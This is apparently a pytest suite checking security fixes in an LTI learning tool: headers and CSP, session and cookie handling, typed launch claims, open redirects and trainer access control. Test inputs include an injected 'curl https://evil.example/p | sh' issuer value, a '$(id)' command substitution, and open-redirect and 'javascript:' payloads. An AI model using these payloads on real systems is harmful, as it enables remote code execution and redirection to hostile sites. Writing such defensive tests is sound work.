"""The web side under attack (issue 11 findings 1 (other actions), 6 (launch claims), 7, 8, 10, 11, 12)."""
from __future__ import annotations

import re
from datetime import timedelta

import pytest
from click.testing import CliRunner
from flask.cli import ScriptInfo
from itsdangerous import TimestampSigner

from lti_tool import create_app, services
from lti_tool.cli import platform_cli
from lti_tool.domain.registrations import PlatformSettings, register_platform
from tests.inprocess import WsgiTransport
from tests.peers.lti_platform import CLAIM, SCENARIOS, PeerPlatform, landing

ADMIN_ROLE = "http://purl.imsglobal.org/vocab/lis/v2/system/person#Administrator"
SCENARIOS.update({
    "as_admin": lambda message: message.update({CLAIM + "roles": [ADMIN_ROLE]}),
    "no_context": lambda message: message.pop(CLAIM + "context"),
    "name_object": lambda message: message.update(name={"first": "Ada"}),
    "locale_integer": lambda message: message.update({CLAIM + "launch_presentation": {"locale": 42}}),
    "custom_list": lambda message: message.update({CLAIM + "custom": ["module", "05"]}),
    "context_string": lambda message: message.update({CLAIM + "context": "peer-course-1"}),
    "roles_string": lambda message: message.update({CLAIM + "roles": ADMIN_ROLE}),
    "email_list": lambda message: message.update(email=["a@example.org"]),
})


def _csrf(html: str) -> str:
    return re.search(r'name="csrf_token" value="([^"]+)"', html).group(1)


def _register(tool, platform) -> None:
    tool.sites[platform.url] = platform.app
    services.platform_keys(tool.app).http.mount(platform.url, WsgiTransport(platform.app))
    result = CliRunner().invoke(platform_cli, ["add", *platform.cli_args()],
                                obj=ScriptInfo(create_app=lambda: tool.app))
    assert result.exit_code == 0, result.output


@pytest.fixture
def other_platform(tool, platform):
    """A second registered LMS whose course has the same id string as the first one's."""
    other = PeerPlatform(tool.url)
    other.issuer, other.client_id, other.url = "https://other-lms.example.org", "other-client", "http://other-lms.test"
    other.app = other._build_app()
    _register(tool, other)
    return other


# ------------------------------------------------------------------ finding 7: headers on every page family

def _pages(tool, platform) -> dict[str, object]:
    learner = tool.browser()
    launched = platform.launch(learner)
    trainer = tool.browser()
    trainer_home = platform.launch(trainer, user="trainer-1")
    return {
        "home": tool.get(tool.url + "/"),
        "lti config": tool.get(tool.url + "/lti/config"),
        "lti refusal": tool.post(tool.url + "/lti/launch", data={}),
        "verify form": tool.get(tool.url + "/verify"),
        "error page": tool.get(tool.url + "/no-such-page"),
        "launch": launched,
        "player": learner.get(tool.url + landing(launched)),
        "catalogue": learner.get(tool.url + "/modules/"),
        "trainer": trainer.get(tool.url + trainer_home.headers["Location"]),
        "demo lms": tool.get(tool.url + "/demo/"),
        "api": tool.post(tool.url + "/api/verify", json={}),
        "lrs": tool.get(tool.url + "/xapi/about"),
        "jwks": tool.get(tool.url + "/.well-known/jwks.json"),
        "static": tool.get(tool.url + "/static/passeport.css"),
        "badge image": tool.get(tool.url + "/badges/images/passport.svg"),
    }


def test_security_headers_on_every_page_family(tool, platform):
    for family, page in _pages(tool, platform).items():
        headers = page.headers
        assert page.status_code < 500, family
        assert headers.get("X-Content-Type-Options") == "nosniff", family
        assert headers.get("Referrer-Policy") == "strict-origin-when-cross-origin", family
        csp = headers.get("Content-Security-Policy", "")
        assert csp, family
        assert "Strict-Transport-Security" not in headers, family  # http base URL
        if headers.get("Content-Type", "").startswith("text/html"):
            assert "default-src 'self'" in csp, family
            assert "'unsafe-inline'" not in csp, family
            assert "<script>" not in page.text, family  # no inline script on any page
            assert re.search(r"<[^>]+ on\w+=", page.text) is None, family  # nor inline handlers
        else:
            assert "default-src 'none'" in csp and "sandbox" in csp, family


def test_frame_ancestors_are_self_and_the_registered_platforms(tool, platform, other_platform):
    csp = tool.get(tool.url + "/").headers["Content-Security-Policy"]
    ancestors = re.search(r"frame-ancestors ([^;]+)", csp).group(1).split()
    assert ancestors[0] == "'self'"
    assert {"https://peer-lms.example.org", "http://peer-lms.test", "https://other-lms.example.org",
            "http://other-lms.test", tool.url} <= set(ancestors)  # the demo LMS is the tool's own origin
    assert not any(a in ("*", "https:", "http:") for a in ancestors)


def test_hsts_when_the_base_url_is_https(make_app):
    app = make_app("https://passeport.example.org")
    answer = app.test_client().get("/", base_url="https://passeport.example.org")
    assert answer.headers["Strict-Transport-Security"].startswith("max-age=")


def test_the_demo_launch_page_posts_itself_without_inline_script(tool):
    start = tool.browser().post(tool.url + "/demo/start", allow_redirects=True,
                                data={"user": "alice", "module": "05-vendre-sur-internet", "locale": "fr"})
    assert 'id="lti-launch"' in start.text
    assert "<script>" not in start.text and "/static/autosubmit.js" in start.text
    assert tool.get(tool.url + "/static/autosubmit.js").status_code == 200


# ------------------------------------------------------------------ finding 8: the administrator hint

INJECTED = "https://x.example; curl https://evil.example/p | sh #"


def test_unknown_platform_hint_is_quoted_and_shown_to_administrators_only(tool, platform, caplog):
    params = {"iss": INJECTED, "login_hint": "1", "client_id": "c$(id)"}
    anonymous = tool.get(tool.url + "/lti/login", params=params)
    assert anonymous.status_code == 403
    assert "passeport platform add" not in anonymous.text
    reference = re.search(r'<code class="reference">([0-9a-f]+)</code>', anonymous.text).group(1)
    logged = next(r.getMessage() for r in caplog.records if reference in r.getMessage())
    assert "--issuer 'https://x.example; curl https://evil.example/p | sh #'" in logged
    assert "--client-id 'c$(id)'" in logged

    admin = tool.browser()
    assert platform.launch(admin, scenario="as_admin").status_code == 303
    shown = admin.get(tool.url + "/lti/login", params=params)
    assert "--issuer &#39;https://x.example; curl https://evil.example/p | sh #&#39;" in shown.text
    assert "--client-id &#39;c$(id)&#39;" in shown.text

    learner = tool.browser()
    platform.launch(learner)
    assert "passeport platform add" not in learner.get(tool.url + "/lti/login", params=params).text


# ------------------------------------------------------------------ finding 6 (launch part): wrongly-typed claims

@pytest.mark.parametrize("scenario", ["name_object", "locale_integer", "custom_list", "context_string",
                                      "roles_string", "email_list"])
def test_wrongly_typed_claims_are_a_clear_400(tool, platform, scenario):
    answer = platform.launch(tool.browser(), scenario=scenario)
    assert answer.status_code == 400, answer.text
    assert "<code>wrong_claim_type</code>" in answer.text
    assert "Traceback" not in answer.text


# ------------------------------------------------------------------ finding 10: open redirect

@pytest.mark.parametrize("target", ["/\t/evil.example/", "//evil.example/", "/\\evil.example", "\t//evil.example",
                                    "https://evil.example/", "/\n/evil.example", "javascript:alert(1)", " //evil"])
def test_language_switch_redirects_only_to_this_site(tool, platform, target):
    browser = tool.browser()
    page = platform.launch(browser)
    answer = browser.post(tool.url + "/locale", data={"csrf_token": _csrf(page.text), "locale": "en", "next": target},
                          allow_redirects=False)
    assert answer.status_code == 303
    location = answer.headers["Location"]
    assert location.startswith("/") and not location.startswith("//") and "evil" not in location


def test_language_switch_keeps_a_local_target(tool, platform):
    browser = tool.browser()
    page = platform.launch(browser)
    answer = browser.post(tool.url + "/locale", data={"csrf_token": _csrf(page.text), "locale": "en",
                                                      "next": landing(page)}, allow_redirects=False)
    assert answer.headers["Location"] == landing(page) == "/modules/vendre-sur-internet"


# ------------------------------------------------------------------ finding 11: cookie flags from the base URL

def test_state_cookie_flags_follow_the_https_base_url_behind_a_plain_proxy(make_app):
    app = make_app("https://passeport.example.org")
    with services.database(app).session() as db:
        register_platform(db, PlatformSettings("https://lms.example.org", "c1", "https://lms.example.org/auth",
                                               "https://lms.example.org/token", "https://lms.example.org/jwks",
                                               ("d1",)))
    # the proxy forwards plain http and no X-Forwarded-Proto
    answer = app.test_client().get("/lti/login", base_url="http://127.0.0.1:8000", query_string={
        "iss": "https://lms.example.org", "login_hint": "1", "client_id": "c1",
        "target_link_uri": "https://passeport.example.org/lti/launch"})
    assert answer.status_code == 302
    cookies = [c for c in answer.headers.getlist("Set-Cookie") if c.startswith("lti1p3-")]
    assert cookies and all("Secure" in c and "SameSite=None" in c and "Partitioned" in c for c in cookies)


# ------------------------------------------------------------------ finding 12: sessions, SECRET_KEY

def test_short_secret_key_is_refused_over_https(tmp_path, database_url):
    with pytest.raises(RuntimeError, match="SECRET_KEY"):
        create_app({"DATABASE_URL": database_url, "INSTANCE_PATH": str(tmp_path / "i"), "SECRET_KEY": "changeme",
                    "BASE_URL": "https://passeport.example.org"})
    create_app({"DATABASE_URL": database_url, "INSTANCE_PATH": str(tmp_path / "i"), "SECRET_KEY": "x" * 48,
                "BASE_URL": "https://passeport.example.org"})


class _Yesterday(TimestampSigner):
    def get_timestamp(self) -> int:
        return super().get_timestamp() - 11 * 3600


def test_a_session_ends_after_a_training_day(tool, platform):
    app = tool.app
    assert app.permanent_session_lifetime == timedelta(hours=10)
    browser = tool.browser()
    platform.launch(browser)
    assert browser.get(tool.url + "/modules/").status_code == 200
    serializer = app.session_interface.get_signing_serializer(app)
    serializer.signer = _Yesterday
    client = browser.clients[tool.url]
    data = {"passeport": {"user_id": 1, "context_id": None, "issuer": "x", "sub": "s", "role": "learner",
                          "launch_id": "l", "locale": "fr"}}
    client.set_cookie("passeport_session", serializer.dumps(data), domain="127.0.0.1")
    assert browser.get(tool.url + "/modules/").status_code == 401


def test_a_new_launch_rotates_the_session(tool, platform):
    browser = tool.browser()
    platform.launch(browser)
    before = _csrf(browser.get(tool.url + "/modules/").text)
    platform.launch(browser, user="trainer-1")
    assert _csrf(browser.get(tool.url + "/modules/").text) != before  # a role change starts a new session


# ------------------------------------------------------------------ finding 1 (other actions): own platform and course

def test_a_trainer_sees_only_their_own_platforms_course(tool, platform, other_platform):
    platform.launch(tool.browser(), user="learner-7")
    stranger = tool.browser()
    assert other_platform.launch(stranger, user="trainer-9").status_code == 303
    page = stranger.get(tool.url + "/trainer/")
    assert page.status_code == 200
    assert "Peer learner-7" not in page.text  # same course id string, another platform


def test_a_trainer_without_a_course_sees_no_learner(tool, platform):
    platform.launch(tool.browser(), user="learner-8", scenario="no_context")
    trainer = tool.browser()
    assert platform.launch(trainer, user="trainer-2", scenario="no_context").status_code == 303
    page = trainer.get(tool.url + "/trainer/")
    assert page.status_code == 403 and "Peer learner-8" not in page.text  # no course: no learner of anyone's


def test_learners_cannot_reach_trainer_pages(tool, platform):
    learner = tool.browser()
    platform.launch(learner)
    assert learner.get(tool.url + "/trainer/").status_code == 403
